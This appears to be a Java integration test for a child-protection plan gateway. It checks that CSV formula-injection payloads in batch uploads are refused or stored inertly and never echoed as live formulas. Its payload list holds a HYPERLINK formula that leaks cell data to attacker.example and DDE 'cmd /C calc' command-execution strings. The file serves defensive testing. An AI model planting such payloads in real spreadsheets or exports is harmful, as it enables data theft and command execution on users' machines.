package org.safeguarding.gateway.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.net.http.HttpRequest;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.safeguarding.gateway.core.register.batch.PlanBatch;
import org.safeguarding.gateway.server.support.Api;
import org.safeguarding.gateway.server.support.GatewayIntegrationTest;
import org.safeguarding.gateway.server.support.Plans;
import org.safeguarding.gateway.server.support.Tokens;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Formula injection through the plan batch (OWASP "CSV injection"): a file with a spreadsheet formula in every column, in
 * each of the forms a spreadsheet runs, sent to the API and dropped in the authority's folder. The validated columns refuse
 * it (each its own reason code), the names keep it as the child's name (data, never run by the gateway), and nothing the
 * outcome repeats, in the answer or the outcome file, is a live formula.
 */
class FormulaInjectionIT extends GatewayIntegrationTest {

    private static final JsonMapper JSON = JsonMapper.builder().build();
    /** What a spreadsheet runs: = + - @ (or their full-width forms) after any white space, or a leading tab or CR. */
    private static final Pattern FORMULA = Pattern.compile("^(?:[\\s\\p{Z}]*[=+\\-@\uFF1D\uFF0B\uFF0D\uFF20]|[\\t\\r])", Pattern.DOTALL);
    private static final List<String> PAYLOADS = List.of("=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\uFF1D1+1");
    /** The code each column's formula gets; the names take it as text. */
    private static final Map<String, String> CODE_BY_COLUMN = new LinkedHashMap<>();

    static {
        CODE_BY_COLUMN.put("planId", "INVALID_PLAN_ID");
        CODE_BY_COLUMN.put("nhsNumber", "INVALID_NHS_NUMBER");
        CODE_BY_COLUMN.put("type", "UNKNOWN_TYPE");
        CODE_BY_COLUMN.put("startDate", "BAD_DATE");
        CODE_BY_COLUMN.put("endDate", "BAD_DATE");
        CODE_BY_COLUMN.put("localAuthority", "OTHER_LA");
        CODE_BY_COLUMN.put("givenName", null);
        CODE_BY_COLUMN.put("familyName", null);
        CODE_BY_COLUMN.put("birthDate", "BAD_DATE");
    }

    @Autowired
    JdbcClient jdbc;

    /** A file with each payload in each column (one per record), and the code expected on each line (null: accepted). */
    private record Upload(String csv, Map<Integer, String> expected, String prefix) {}

    private static Upload upload() {
        String prefix = "FX-" + UUID.randomUUID().toString().substring(0, 8);
        StringBuilder csv = new StringBuilder(PlanBatch.HEADER_LINE).append("\r\n");
        Map<Integer, String> expected = new LinkedHashMap<>();
        int line = 2;
        for (String payload : PAYLOADS) {
            for (int column = 0; column < PlanBatch.HEADER.size(); column++) {
                List<String> record = new ArrayList<>(List.of(prefix + "-" + line, Plans.freshNhsNumber(), "CPP", "2026-01-05", "",
                        "la-derby", "Formula", "Child", "2019-05-05"));
                record.set(column, payload);
                csv.append(record.stream().map(f -> '"' + f.replace("\"", "\"\"") + '"').collect(Collectors.joining(","))).append("\r\n");
                expected.put(line, CODE_BY_COLUMN.get(PlanBatch.HEADER.get(column)));
                // a quoted CR is inside the field: the record still takes one physical line per line break it holds
                line += payload.contains("\r") ? 2 : 1;
            }
        }
        return new Upload(csv.toString(), expected, prefix);
    }

    @Test
    void throughTheApiNoFormulaComesBackAndOnlyTheNamesKeepOne() {
        Upload upload = upload();
        Api.Response answer = api.send(api.request("/api/v1/plans/batch", Tokens.user("sw.derby"), "Content-Type", "text/csv")
                .POST(HttpRequest.BodyPublishers.ofString(upload.csv())));
        assertThat(answer.status()).as(answer.toString()).isEqualTo(200);
        holdsNoFormula(answer.json(), upload);
        assertNamesKeptAsText(upload);
    }

    @Test
    void throughTheFileDropTheOutcomeFileHoldsNoFormula() throws Exception {
        Upload upload = upload();
        Path derby = dataDirectory().resolve("drop/la-derby");
        Files.createDirectories(derby.resolve("in"));
        String name = "plans-" + upload.prefix() + ".csv";
        Files.move(Files.writeString(derby.resolve(name + ".part"), upload.csv()), derby.resolve("in").resolve(name));
        Path outcome = derby.resolve("out").resolve(name + ".outcome.json");
        await().atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(200)).until(() -> Files.exists(outcome));
        holdsNoFormula(JSON.readTree(Files.readString(outcome)), upload);
        assertNamesKeptAsText(upload);
    }

    private static void holdsNoFormula(JsonNode outcome, Upload upload) {
        assertThat(outcome.get("file").get("status").asString()).isEqualTo("partially-accepted");
        Map<Integer, String> codes = new LinkedHashMap<>();
        for (JsonNode record : outcome.get("records")) {
            codes.put(record.get("line").asInt(), record.get("code").asString());
        }
        Map<Integer, String> refused = new LinkedHashMap<>();
        upload.expected().forEach((line, code) -> {
            if (code != null) {
                refused.put(line, code);
            }
        });
        assertThat(codes).as("each validated column refuses the formula with its own code").isEqualTo(refused);
        List<String> texts = new ArrayList<>();
        collectTexts(outcome, texts);
        assertThat(texts).as("texts of the outcome").hasSizeGreaterThan(refused.size());
        assertThat(texts).as("no text of the outcome is a live formula").noneMatch(t -> FORMULA.matcher(t).find());
        assertThat(texts).as("the refused planIds are repeated, behind a quote").contains("'" + PAYLOADS.get(0), "'" + PAYLOADS.get(1));
    }

    /** The names are the authority's record of the child: kept as sent (stripped, as every field is), never run by the gateway. */
    private void assertNamesKeptAsText(Upload upload) {
        List<String> names = jdbc.sql("SELECT given_name || '|' || family_name FROM cp_plan WHERE plan_id LIKE ?")
                .param(upload.prefix() + "-%").query(String.class).list();
        assertThat(names).as("the records with a formula in a name are on the register").hasSize(2 * PAYLOADS.size());
        assertThat(names).contains(PAYLOADS.get(0) + "|Child", "Formula|" + PAYLOADS.get(1), "=1+1|Child");
    }

    private static void collectTexts(JsonNode node, List<String> texts) {
        if (node.isString()) {
            texts.add(node.asString());
        }
        node.values().forEach(child -> collectTexts(child, texts));
    }
}
